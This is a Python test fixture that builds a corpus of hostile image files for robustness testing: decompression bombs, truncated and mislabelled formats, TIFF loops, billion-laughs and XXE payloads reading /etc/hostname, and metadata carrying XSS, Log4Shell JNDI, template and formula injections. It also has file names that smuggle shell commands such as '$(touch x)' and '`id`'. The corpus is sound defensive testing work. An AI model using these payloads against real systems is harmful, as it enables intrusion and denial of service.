"""Makes hostile files of every kind, each with the outcomes that it may have; nothing of them is kept anywhere.

An outcome is "ok" or the code of the error. The families are those of the threat model: bombs, cuts, lies about the
format, dimensions, loops and multitudes, numbers, metadata, formats that are never opened, names, and what is no file.
"""

from __future__ import annotations

import os
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image, ImageCms, PngImagePlugin

from tests.images import animated, encoded, icc_profile, jpeg, oriented, picture, png, png_chunk, tiff_pages

OK, DAMAGED, DIMENSIONS, UNSUPPORTED = "ok", "damaged", "dimensions", "unsupported_format"
CONTAINERS = ("JPEG", "PNG", "WEBP", "TIFF", "GIF", "BMP", "AVIF")
_HUGE = 60_000
_INFLATED = 30_000_000


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, or something that poses as one, at `raw_path`, and what may come of it."""

    family: str
    raw_path: bytes
    outcomes: frozenset[str]


Made = tuple[str, bytes, str]  # name, content, allowed outcomes with spaces between them


def write_corpus(folder: Path, families: Iterable[str] | None = None) -> list[Hostile]:
    """Write the files of some families, or of all, each into a folder of its name."""
    found = []
    for family in families or FAMILIES:
        place = folder / family
        place.mkdir(parents=True)
        for name, data, outcomes in FAMILIES[family]():
            path = place / name
            path.write_bytes(data)
            found.append(Hostile(family, os.fsencode(path), frozenset(outcomes.split())))
    return found


def write_no_files(folder: Path) -> list[Hostile]:
    """What poses as a file in a folder: links, loops, pipes, devices, a socket's kin, folders, a hole of a terabyte."""
    folder.mkdir(parents=True)
    sound = folder / "sound.jpg"
    sound.write_bytes(jpeg())
    for name, target in (
        ("link.jpg", "sound.jpg"),
        ("itself.jpg", "itself.jpg"),
        ("there.jpg", "back.jpg"),
        ("back.jpg", "there.jpg"),
        ("gone.jpg", "nowhere.jpg"),
        ("zeros.jpg", "/dev/zero"),
        ("up.jpg", ".."),
    ):
        (folder / name).symlink_to(target)
    os.mkfifo(folder / "pipe.jpg")
    (folder / "folder.jpg").mkdir()
    with (folder / "hole.jpg").open("wb") as file:
        file.truncate(1 << 40)
    (folder / "empty.jpg").touch()
    kinds = {"sound.jpg": OK, "hole.jpg": "file_too_large", "empty.jpg": "empty"}
    inside = [
        Hostile("no-files", os.fsencode(path), frozenset([kinds.get(path.name, "not_a_file")]))
        for path in sorted(folder.iterdir())
    ]
    devices = [
        Hostile("no-files", path, frozenset(["not_a_file"])) for path in (b"/dev/zero", b"/dev/null", b"/dev/tty")
    ]
    return [*inside, *devices, Hostile("no-files", os.fsencode(folder / "absent.jpg"), frozenset(["not_found"]))]


def _bombs() -> Iterator[Made]:
    """Few bytes that ask for gigabytes."""
    for container, data in _oversized(_HUGE):
        yield f"pixels.{container.lower()}", data, f"{DIMENSIONS} {DAMAGED}"
    packed = zlib.compress(b"A" * _INFLATED, 9)
    for kind, head in ((b"zTXt", b"k\0\0"), (b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0"), (b"iCCP", b"icc\0\0")):
        yield f"{kind.decode()}.png", _with_chunks(png_chunk(kind, head + packed)), DAMAGED
    rows = zlib.compress(bytes(1 << 26), 9)
    yield "more-rows-than-lines.png", _png(8, 8, rows), f"{OK} {DAMAGED}"
    yield "flat-100-mp.png", _flat(10_000, 10_000), OK
    yield "flat-48-mp.jpg", jpeg(Image.new("L", (8_000, 6_000))), OK
    yield "flat-12-mp.webp", encoded(Image.new("RGB", (4_000, 3_000)), "WEBP", quality=1, method=0), OK
    yield "flat-48-mp.gif", encoded(Image.new("P", (8_000, 6_000)), "GIF"), OK
    yield "flat-48-mp.tif", encoded(Image.new("L", (8_000, 6_000)), "TIFF", compression="tiff_adobe_deflate"), OK
    scans = jpeg(picture(400, 500), progressive=True)
    yield "two-thousand-scans.jpg", _repeated_scan(scans, 2_000), f"{OK} {DAMAGED} decode_timeout"


def _cuts() -> Iterator[Made]:
    """Every format, cut after each per cent."""
    for container in CONTAINERS:
        whole = encoded(picture(120, 160), container)
        for percent in range(100):
            data = whole[: len(whole) * percent // 100]
            yield f"{percent:02}.{container.lower()}", data, f"{DAMAGED} {UNSUPPORTED}" if data else "empty"


def _wrong_names() -> Iterator[Made]:
    """The content decides, not the extension."""
    for container in CONTAINERS:
        data = encoded(picture(), container)
        for other in (*CONTAINERS, "HEIC", "txt", "exe", "svg", "eps"):
            yield f"{container.lower()}.{other.lower()}", data, OK


def _dimensions() -> Iterator[Made]:
    for side, outcomes in ((0, f"{DIMENSIONS} {DAMAGED} {UNSUPPORTED}"), ((1 << 31) - 1, f"{DIMENSIONS} {DAMAGED}")):
        for container, data in _oversized(side):
            yield f"{side}.{container.lower()}", data, outcomes
    yield "one-pixel.png", png(Image.new("RGB", (1, 1))), OK
    for width, height in ((1, 65_000), (65_000, 1)):
        yield f"{width}x{height}.png", png(Image.new("L", (width, height))), DIMENSIONS
        yield f"{width}x{height}.jpg", jpeg(Image.new("L", (width, height))), DIMENSIONS


def _loops() -> Iterator[Made]:
    """Directories that lead to themselves, and counts that lead nowhere."""
    entries = [
        (256, 4, 1, 8),
        (257, 4, 1, 8),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
    ]
    entries += [(278, 4, 1, 8), (279, 4, 1, 64)]
    yield "itself.tif", _tiff(entries, following=8), OK
    yield "exif-itself.tif", _tiff([*entries, (34665, 4, 1, 8)]), OK
    yield "four-billion-letters.tif", _tiff([*entries, (270, 2, 0xFFFFFFFF, 8)]), OK
    yield "two-in-a-circle.tif", tiff_pages(2)[:-4] + struct.pack("<I", 72), OK
    exif = b"Exif\0\0" + _tiff([(34665, 4, 1, 8), (34853, 4, 1, 8)], following=8)
    yield "exif.jpg", _with_segment(exif), OK


def _multitudes() -> Iterator[Made]:
    yield "frames.gif", _frames(2_000), OK
    yield "frames.png", animated("PNG", 200), OK
    yield "frames.webp", animated("WEBP", 200), OK
    yield "pages.tif", tiff_pages(20_000), OK
    yield "texts.png", _with_chunks(b"".join(png_chunk(b"tEXt", b"k%d\0v" % i) for i in range(30_000))), OK
    yield "empty-data.png", _with_chunks(png_chunk(b"IDAT", b"") * 30_000), OK
    comments = (b"\xff\xfe" + struct.pack(">H", 6) + b"abcd") * 10_000
    yield "comments.jpg", jpeg()[:2] + comments + jpeg()[2:], OK
    yield "fill-bytes.jpg", jpeg()[:2] + b"\xff" * 2_000_000 + jpeg()[2:], f"{OK} {DAMAGED}"
    gif = encoded(picture(mode="P"), "GIF")
    yield "comments.gif", gif[:-1] + b"\x21\xfe\x01a\0" * 20_000 + b";", OK
    webp = bytearray(encoded(picture(), "WEBP") + b"junk\0\0\0\0" * 20_000)
    webp[4:8] = struct.pack("<I", len(webp) - 8)
    yield "chunks.webp", bytes(webp), OK


def _numbers() -> Iterator[Made]:
    """Samples that are no numbers, or the largest there are."""
    ramp = np.linspace(-1, 1, 64 * 64, dtype=np.float32).reshape(64, 64)
    for name, value in (
        ("nan", np.nan),
        ("inf", np.inf),
        ("minus-inf", -np.inf),
        ("largest", np.finfo(np.float32).max),
    ):
        yield f"{name}.tif", encoded(Image.fromarray(np.full((64, 64), value, np.float32)), "TIFF"), OK
        some = ramp.copy()
        some[::7] = value
        yield f"some-{name}.tif", encoded(Image.fromarray(some), "TIFF"), OK
    yield "int32.tif", encoded(Image.new("I", (64, 64), 2**31 - 1), "TIFF"), OK


def _metadata() -> Iterator[Made]:
    for value in (0, 9, 65_535):
        yield f"orientation-{value}.jpg", oriented("JPEG", value), OK
    markup = Image.Exif()
    markup[270] = '<script>alert(1)</script><img src="file:///etc/hostname"/>'
    markup[315], markup[305] = '=HYPERLINK("http://x.invalid")', "%n%s {{7*7}} ${jndi:ldap://x.invalid/a}"
    markup[33432] = "\u202egpj.exe\x1b[31m"
    yield "markup.jpg", jpeg(exif=markup), OK
    yield "exif-of-noise.jpg", _with_segment(b"Exif\0\0II*\0" + bytes(range(256)) * 100), OK
    laughs = b"".join(b'<!ENTITY %c "%s">' % (98 + i, (b"&%c;" % (97 + i)) * 10) for i in range(9))
    for name, packet in (
        ("laughs", b'<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">' + laughs + b"]><x>&j;</x>"),
        ("outside", b'<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/hostname">]><x>&a;</x>'),
        ("unclosed", b"<x><a"),
        ("deep", b"<a>" * 15_000),
        ("no-utf-8", b'<?xml version="1.0" encoding="utf-7"?><x>\xff\xfe</x>'),
    ):
        yield f"xmp-{name}.jpg", _with_segment(b"http://ns.adobe.com/xap/1.0/\0" + packet), OK
    profile = icc_profile()
    lab = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()
    for name, data in (
        ("noise", bytes(range(256)) * 8),
        ("cut", profile[:150]),
        ("of-another-space", lab),
        ("grey", icc_profile(b"GRAY")),
        ("of-four-billion-tags", profile[:128] + b"\xff" * 4 + profile[132:]),
        ("of-a-gigabyte", b"\x3f\xff\xff\xff" + profile[4:]),
    ):
        yield f"icc-{name}.jpg", jpeg(icc_profile=data), OK
        yield f"icc-{name}.png", png(icc_profile=data), OK
    info = PngImagePlugin.PngInfo()
    info.add_text("transparency", "1" * 1_000)
    info.add_text("parameters", "[" * 100_000)
    yield "text-that-poses.png", png(pnginfo=info), OK


def _refused() -> Iterator[Made]:
    """What no image is, or no decoder of ours ever opens, under names that promise one."""
    postscript = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n{} loop\n%%EOF\n"
    svg = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="x">&x;</svg>'
    for name, data in (
        ("eps", postscript),
        ("dos-eps", b"\xc5\xd0\xd3\xc6" + struct.pack("<7I", 32, len(postscript), 0, 0, 0, 0, 0xFFFF) + postscript),
        ("svg", svg),
        ("svgz", zlib.compress(svg, wbits=31)),
        ("pdf", b"%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>>"),
        ("html", b"<html><body onload=alert(1)>"),
        ("zip", b"PK\x03\x04" + bytes(100)),
        ("elf", b"\x7fELF" + bytes(100)),
        ("text", b"this is no image\n" * 50),
        ("zeros", bytes(65_536)),
        ("ones", b"\xff" * 65_536),
        ("byte", b"\xff"),
        ("psd", b"8BPS\0\1" + bytes(20)),
        ("jxl", b"\0\0\0\x0cJXL \r\n\x87\n"),
        ("movie", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom"),
    ):
        for extension in ("jpg", "png"):
            yield f"{name}.{extension}", data, f"{UNSUPPORTED} {DAMAGED}" if name == "ones" else UNSUPPORTED


def _names() -> Iterator[Made]:
    """A sound picture under names that terminals, shells, tables and pages trip over."""
    data = jpeg(picture(16, 16))
    texts = (
        "-rf",
        "--help",
        " before",
        "behind ",
        "new\nline",
        "tab\t",
        "return\r",
        "esc\x1b[31mred",
        "bell\x07",
        "%s%n",
    )
    texts += (
        "${HOME}",
        "$(touch x)",
        "`id`",
        "a;b|c&d",
        "quote'",
        'quotes"',
        "back\\slash",
        "<b>bold",
        "&lt;",
        "=1+1",
        "+1",
        "@SUM(1)",
    )
    texts += (
        "photo\u202egpj",
        "\u2066in\u2069",
        "zero\u200bwidth",
        "line\u2028break",
        "\ufeffmark",
        "cafe\u0301",
        "caf\u00e9",
    )
    texts += ("a:b", "dots..", "...", "NUL", "con", "汉" * 83, "a" * 251, "z\u0361\u0489" * 20, "\U0001f4a9", "العربية")
    raw = (b"bad\xff\xfe", b"latin\xe9", b"half\xed\xa0\x80", b"cut\xe6\xb1", b"\x01\x02\x7f", b"\xff" * 251)
    for name in (*map(os.fsencode, texts), *raw):
        yield os.fsdecode(name + b".jpg"), data, OK


FAMILIES: dict[str, Callable[[], Iterator[Made]]] = {
    "bombs": _bombs,
    "cuts": _cuts,
    "wrong-names": _wrong_names,
    "dimensions": _dimensions,
    "loops": _loops,
    "multitudes": _multitudes,
    "numbers": _numbers,
    "metadata": _metadata,
    "refused": _refused,
    "names": _names,
}


def _oversized(side: int) -> Iterator[tuple[str, bytes]]:
    """Small files of each format whose header says another width and height, as far as its fields can say it."""
    yield "PNG", _png(side, side, zlib.compress(b"\0"))
    data = jpeg()
    at = data.index(b"\xff\xc0") + 5
    yield "JPEG", _patched(data, at, struct.pack(">HH", *(min(side, 0xFFFF),) * 2))
    gif = encoded(picture(mode="P"), "GIF")
    image = gif.index(b"\x2c\0\0\0\0") + 5
    short = struct.pack("<HH", *(min(side, 0xFFFF),) * 2)
    yield "GIF", _patched(_patched(gif, 6, short), image, short)
    yield "BMP", _patched(encoded(picture(), "BMP"), 18, struct.pack("<ii", side, side))
    yield (
        "TIFF",
        _tiff(
            [
                (256, 4, 1, side),
                (257, 4, 1, side),
                (258, 3, 1, 8),
                (259, 3, 1, 1),
                (262, 3, 1, 1),
                (273, 4, 1, 8),
                (279, 4, 1, 64),
            ]
        ),
    )
    lossy = encoded(picture(), "WEBP")
    yield "WEBP", _patched(lossy, lossy.index(b"\x9d\x01\x2a") + 3, struct.pack("<HH", *(min(side, 0x3FFF),) * 2))
    canvas = encoded(picture(), "WEBP", exif=b"Exif\0\0II*\0")
    wide = struct.pack("<I", min(side - 1, 0xFFFFFF) & 0xFFFFFF)[:3]
    yield "X.WEBP", _patched(canvas, canvas.index(b"VP8X") + 12, wide * 2)
    avif = encoded(picture(), "AVIF")
    yield "AVIF", _patched(avif, avif.index(b"ispe") + 8, struct.pack(">II", side, side))


def _patched(data: bytes, at: int, part: bytes) -> bytes:
    return data[:at] + part + data[at + len(part) :]


def _png(width: int, height: int, packed: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")


def _flat(width: int, height: int) -> bytes:
    """A black PNG of many pixels, written without making them."""
    packer = zlib.compressobj(1)
    row = bytes(1 + width)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")


def _with_chunks(chunks: bytes) -> bytes:
    data = png()
    return data[:33] + chunks + data[33:]


def _with_segment(payload: bytes) -> bytes:
    data = jpeg()
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def _repeated_scan(data: bytes, times: int) -> bytes:
    """A progressive JPEG whose second scan's header comes many times, without data."""
    start = data.index(b"\xff\xda", data.index(b"\xff\xda") + 2)
    length = 2 + struct.unpack_from(">H", data, start + 2)[0]
    return data[:-2] + data[start : start + length] * times + data[-2:]


def _frames(count: int) -> bytes:
    gif = encoded(Image.new("P", (2_000, 2_000)), "GIF")
    image = gif[gif.rfind(b"\x2c\0\0\0\0") : -1]
    return gif[:-1] + (b"\x21\xf9\x04\0\0\0\0\0" + image) * count + b";"


def _tiff(entries: list[tuple[int, int, int, int]], following: int = 0) -> bytes:
    directory = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + directory + struct.pack("<I", following) + bytes(300)
